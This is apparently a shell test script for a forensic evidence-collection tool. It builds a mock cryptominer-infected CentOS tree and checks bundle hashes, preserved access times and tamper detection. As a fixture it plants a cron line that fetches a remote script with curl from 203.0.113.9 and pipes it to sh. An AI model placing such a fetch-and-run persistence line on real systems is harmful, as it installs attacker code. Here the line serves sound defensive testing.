#!/bin/sh
# run.sh - the evidence bundle: collect on the seed case (the real XMRig as /bin/dhpcd, its
# cron line, rc.local, the attacker's key) and on a Windows tree, and live; GNU tar and
# bsdtar (libarchive) read the bundle and every member's SHA-256 matches the manifest and
# the original file; sha256sum -c accepts the .sha256 beside it; reading kept the access
# times; a long UTF-8 name survives (pax); --verify passes on the bundle and names what
# changed in a tampered one; a cut bundle is an error.
set -u
MT=${MINETRACE:-build/minetrace}
here=$(cd "$(dirname "$0")" && pwd)
sc=$here/../scenario
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
trap 'exit 130' INT TERM HUP
fail() { echo "FAIL collect: $*"; exit 1; }
root=$work/root
mkdir -p "$root"
cp -a "$sc/seed-centos7/tree/." "$root/"
sh "$sc/seed-centos7/setup.sh" "$root" || fail "setup"
mkdir -p "$root/etc/cron.d"
long="$root/etc/cron.d/$(printf 'x%.0s' $(seq 1 120))-计划任务"
printf '*/3 * * * * root curl -fsSL http://203.0.113.9/a.sh | sh\n' >"$long"
mkdir -p "$root/var/log"
printf 'Jan 24 00:05:01 c7 sshd[1]: Accepted password for root from 203.0.113.9 port 1 ssh2\n' >"$root/var/log/secure"
touch -d "2024-01-24 00:06:00" "$root/var/log/secure"
touch -a -d "2020-01-01 00:00:00" "$root/var/spool/cron/root" "$root/var/log/secure" "$root/bin/dhpcd"
before=$(stat -c '%X %n' "$root/var/spool/cron/root" "$root/var/log/secure" "$root/bin/dhpcd")
"$MT" collect --root "$root" --output "$work/b.tar.gz" >"$work/out" 2>"$work/err" || { cat "$work/err"; fail "collect: exit $?"; }
[ -s "$work/b.tar.gz" ] && [ -s "$work/b.tar.gz.sha256" ] || fail "no bundle or no .sha256"
(cd "$work" && sha256sum -c b.tar.gz.sha256 >/dev/null) || fail "sha256sum -c refuses the .sha256"
after=$(stat -c '%X %n' "$root/var/spool/cron/root" "$root/var/log/secure" "$root/bin/dhpcd")
[ "$before" = "$after" ] || fail "reading changed access times: $before -> $after"
mkdir "$work/x"
tar -xzf "$work/b.tar.gz" -C "$work/x" || fail "GNU tar cannot extract the bundle"
tar -tzf "$work/b.tar.gz" | sort >"$work/gnu.list"
if command -v bsdtar >/dev/null; then
	bsdtar -tzf "$work/b.tar.gz" | sort >"$work/bsd.list"
	cmp -s "$work/gnu.list" "$work/bsd.list" || { diff "$work/gnu.list" "$work/bsd.list"; fail "bsdtar lists other members than GNU tar"; }
fi
python3 - "$work/x" "$root" "$long" <<'EOT' || fail "the manifest"
import hashlib, json, os, sys
x, root, long = sys.argv[1:4]
lines = [json.loads(l) for l in open(os.path.join(x, "manifest.jsonl"), encoding="utf-8")]
assert lines[0]["type"] == "manifest" and lines[1]["type"] == "host_info", lines[:2]
ents = lines[2:]
def sha(p):
    return hashlib.sha256(open(p, "rb").read()).hexdigest()
taken = {e["path"]: e for e in ents if e.get("taken")}
for p in ("/bin/dhpcd", "/var/spool/cron/root", "/etc/rc.d/rc.local", "/root/.ssh/authorized_keys", "/var/log/secure", "/etc/passwd"):
    assert p in taken, "%s not taken: %r" % (p, sorted(taken))
lp = long[len(root):]
assert lp in taken, "the long UTF-8 name is not in the bundle"
for e in ents:
    if "member" not in e:
        continue
    m = os.path.join(x, e["member"])
    assert os.path.isfile(m), "member %s not extracted" % e["member"]
    assert sha(m) == e["sha256"] and os.path.getsize(m) == e["size"], "member %s differs from the manifest" % e["member"]
    if e.get("path"):
        assert sha(root + e["path"]) == e["sha256"], "%s: not the original's content" % e["path"]
        assert e["mtime"] and e["atime"] and e["ctime"] and "uid" in e and "mode" in e, e
d = taken["/bin/dhpcd"]
assert d["sha256"] == "9c10c46476fe17167237c99b66b18d875ed95db9cde1a8e4d5f43f83e0daff26" and "MT-" in d["why"], d
assert any(e.get("member") == "reports/scan.jsonl" for e in ents) and any(e.get("member") == "reports/timeline.jsonl" for e in ents)
print("collect: %d files taken, every member as the manifest and the original say" % len(taken))
EOT
"$MT" collect --verify "$work/b.tar.gz" >"$work/v.out" || { cat "$work/v.out"; fail "--verify of a good bundle: exit $?"; }
# tampered: one member's content changed, the manifest left as it was
python3 - "$work/b.tar.gz" "$work/t.tar.gz" <<'EOT' || fail "tamper"
import io, sys, tarfile
src, dst = sys.argv[1:3]
with tarfile.open(src, "r:gz") as a, tarfile.open(dst, "w:gz", format=tarfile.PAX_FORMAT) as b:
    for m in a.getmembers():
        data = a.extractfile(m).read() if m.isfile() else None
        if m.name == "files/var/spool/cron/root":
            data = data.replace(b"dhpcd", b"dhpcX")
        if data is not None:
            m.size = len(data)
            b.addfile(m, io.BytesIO(data))
        else:
            b.addfile(m)
EOT
cp "$work/b.tar.gz.sha256" "$work/t.tar.gz.sha256"
rc=0; "$MT" collect --verify "$work/t.tar.gz" >"$work/t.out" || rc=$?
[ $rc -eq 1 ] || { cat "$work/t.out"; fail "--verify of a tampered bundle: exit $rc, expected 1"; }
grep -q "MISMATCH files/var/spool/cron/root" "$work/t.out" || { cat "$work/t.out"; fail "the changed member is not named"; }
grep -q "MISMATCH the bundle's SHA-256" "$work/t.out" || fail "the .sha256 mismatch is not named"
# one byte flipped in the bundle as written (the .sha256 beside it), and one without it;
# a cut bundle
for k in with without; do
	python3 -c 'import sys; b = bytearray(open(sys.argv[1], "rb").read()); b[len(b) // 2] ^= 0x20; open(sys.argv[2], "wb").write(b)' \
		"$work/b.tar.gz" "$work/f-$k.tar.gz"
	[ $k = with ] && sed 's/b.tar.gz/f-with.tar.gz/' "$work/b.tar.gz.sha256" >"$work/f-with.tar.gz.sha256"
	rc=0; "$MT" collect --verify "$work/f-$k.tar.gz" >"$work/f.out" 2>&1 || rc=$?
	[ $rc -eq 1 ] && grep -q "^MISMATCH" "$work/f.out" || { cat "$work/f.out"; fail "one flipped byte ($k .sha256): exit $rc"; }
	[ $k = without ] || grep -q "MISMATCH the bundle's SHA-256" "$work/f.out" || fail "the flipped byte is not named by the .sha256"
done
head -c 100000 "$work/b.tar.gz" >"$work/cut.tar.gz"
rc=0; "$MT" collect --verify "$work/cut.tar.gz" >"$work/cut.out" 2>&1 || rc=$?
[ $rc -eq 1 ] && grep -q "MISMATCH the bundle is damaged" "$work/cut.out" || { cat "$work/cut.out"; fail "a cut bundle: exit $rc"; }
rc=0; "$MT" collect --verify "$work/nonexistent.tar.gz" >/dev/null 2>&1 || rc=$?
[ $rc -eq 2 ] || fail "a bundle that is not there: exit $rc, expected 2"
rc=0; "$MT" collect --root "$root" --output "$work/b.tar.gz" >/dev/null 2>&1 || rc=$?
[ $rc -eq 2 ] || fail "an existing bundle was overwritten (exit $rc)"
# Windows: the hives with their logs, the event logs, the task files
if command -v hivexregedit >/dev/null; then
	w=$work/win
	mkdir -p "$w"
	sh "$sc/win-campaigns/setup.sh" "$w" >/dev/null 2>&1 || fail "win setup"
	"$MT" collect --root "$w" --output "$work/w.tar.gz" >/dev/null 2>"$work/err" || { cat "$work/err"; fail "collect on a Windows tree"; }
	tar -tzf "$work/w.tar.gz" >"$work/w.list" || fail "GNU tar on the Windows bundle"
	for m in files/Windows/System32/config/SYSTEM files/Windows/System32/config/SOFTWARE; do
		grep -qx "$m" "$work/w.list" || fail "$m not in the Windows bundle"
	done
	grep -q "^files/Windows/System32/Tasks/" "$work/w.list" || fail "no task file in the Windows bundle"
	"$MT" collect --verify "$work/w.tar.gz" >/dev/null || fail "--verify of the Windows bundle"
fi
# live: process and socket listings beside the files
rc=0; "$MT" collect --output "$work/live.tar.gz" >/dev/null 2>"$work/err" || rc=$?
[ $rc -eq 0 ] || { cat "$work/err"; fail "live collect: exit $rc"; }
tar -xzOf "$work/live.tar.gz" live/processes.tsv | grep -q "^1	" || fail "live: no process 1 in processes.tsv"
tar -tzf "$work/live.tar.gz" | grep -qx "live/proc_net_tcp" || fail "live: no socket table"
"$MT" collect --verify "$work/live.tar.gz" >/dev/null || fail "--verify of the live bundle"
echo "collect: all passed"
